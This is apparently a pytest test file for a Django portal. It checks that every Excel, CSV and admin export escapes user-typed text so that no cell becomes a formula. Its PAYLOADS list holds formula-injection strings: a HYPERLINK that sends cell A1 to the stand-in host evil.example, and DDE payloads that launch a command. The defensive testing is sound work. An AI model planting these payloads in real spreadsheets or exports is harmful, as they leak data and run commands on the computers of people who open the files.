"""No text people typed comes out of any spreadsheet the portal writes as a formula: every
Excel download (the registry, plans, the media register, the assessment, reports, the
Navigator fallback, background export jobs) and the Django admin's exports."""

import csv
import io

import openpyxl
import pytest
from django.contrib import admin
from django.test import TestCase
from django.urls import reverse
from django.utils import timezone

from moc_portal.core import admin_exports
from moc_portal.core.spreadsheets import FORMULA_STARTS
from moc_portal.users.models import User
from plans.models import Plan, PlanItem, Publication
from programs.assessment.models import Campaign, CriteriaSet
from programs.models import Organisation, Program, PublishedProgram, Specialisation
from reports.models import YearlyReport

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Нажмите")',
    '+7+cmd|" /C calc"!A0',
    '-2+3+cmd|" /C calc"!A0',
    '@SUM(1+9)*cmd|" /C calc"!A0',
]


def formula_cells(data: bytes) -> list[str]:
    book = openpyxl.load_workbook(io.BytesIO(data))
    return [
        f"{sheet.title}!{cell.coordinate}: {cell.value}"
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]


def texts(data: bytes) -> set[str]:
    book = openpyxl.load_workbook(io.BytesIO(data))
    return {
        str(cell.value)
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.value is not None
    }


@pytest.fixture
def hostile(demo):
    """The demo with what an attacker would type in every name a spreadsheet shows."""
    first, second, third, fourth = PAYLOADS
    Program.objects.filter(organisation__municipality=demo).update(name=first)
    PublishedProgram.objects.filter(municipality=demo).update(name=first)
    Organisation.objects.filter(municipality=demo).update(short_name=second, full_name=second)
    Specialisation.objects.filter(pk=Specialisation.objects.first().pk).update(name=third)
    PlanItem.objects.update(title=first, responsible=second, expected_result=third)
    Plan.objects.update(title=fourth)
    Publication.objects.update(title=third)
    Campaign.objects.update(title=fourth)
    CriteriaSet.objects.update(title=fourth)
    demo.name = fourth
    demo.save()
    return demo


def test_no_excel_download_carries_a_formula(client, hostile, settings):
    administrator = User.objects.get(username="admin")
    staff = User.objects.get(username="moc")
    plan = Plan.objects.filter(municipality=hostile).first()
    campaign = Campaign.objects.filter(municipality=hostile, state="closed").first()
    with TestCase.captureOnCommitCallbacks(execute=True):
        client.force_login(staff)
        client.post(
            reverse("reports:list"),
            {
                "academic_year": "2022/2023",
                "as_of": timezone.localdate().isoformat(),
                "plan": plan.pk,
            },
        )
    report = YearlyReport.objects.filter(municipality=hostile).latest("pk")  # the one just built
    client.force_login(administrator)
    settings.EXPORT_BACKGROUND_ROWS = 10
    with TestCase.captureOnCommitCallbacks(execute=True):
        job_page = client.get(reverse("programs:export"))
    downloads = {
        "programmes": reverse("programs:export"),
        "programme template": reverse("programs:template"),
        "organisations": reverse("programs:organisation_export"),
        "moderation history": reverse("programs:history_export"),
        "background export": job_page["Location"].rstrip("/") + "/result.xlsx",
        "plan": reverse("plans:export", args=[plan.pk, "plan", "xlsx"]),
        "plan execution": reverse("plans:export", args=[plan.pk, "report", "xlsx"]),
        "media register": reverse("plans:media_export"),
        "assessment protocol": reverse("assessment:protocol", args=[campaign.pk, "xlsx"]),
        "regional expertise register": reverse("assessment:register"),
        "yearly report": reverse("reports:export", args=[report.pk]),
        "regional summary": reverse("reports:regional_export") + "?year=2022/2023",
        "navigator fallback": reverse("navigator_sync:export"),
    }
    settings.EXPORT_BACKGROUND_ROWS = 100_000
    for name, url in downloads.items():
        response = client.get(url)
        assert response.status_code == 200, (name, url, response.status_code)
        data = b"".join(response) if response.streaming else response.content
        assert formula_cells(data) == [], name
        assert texts(data) & set(PAYLOADS), f"{name}: no payload reached the file"
    # The organisation template holds no typed text (its lists are the portal's own); it is
    # written by the same path as the programme template.
    template = client.get(reverse("programs:organisation_template")).content
    assert formula_cells(template) == []


@pytest.mark.parametrize("model", [Program, Organisation])
def test_the_admins_exports_escape_every_formula_start(hostile, model):
    model_admin = admin.site._registry[model]
    assert model_admin.get_export_formats() == [admin_exports.CSV, admin_exports.XLSX]
    resource = model_admin.get_export_resource_classes(None)[0]()
    dataset = resource.export(queryset=model.objects.all())

    rows = list(csv.reader(io.StringIO(admin_exports.CSV().export_data(dataset))))
    cells = [cell for row in rows[1:] for cell in row]
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    assert any(cell.lstrip("'") in PAYLOADS for cell in cells)

    data = admin_exports.XLSX().export_data(dataset)
    assert formula_cells(data) == []
    assert {value.lstrip("'") for value in texts(data)} & set(PAYLOADS)
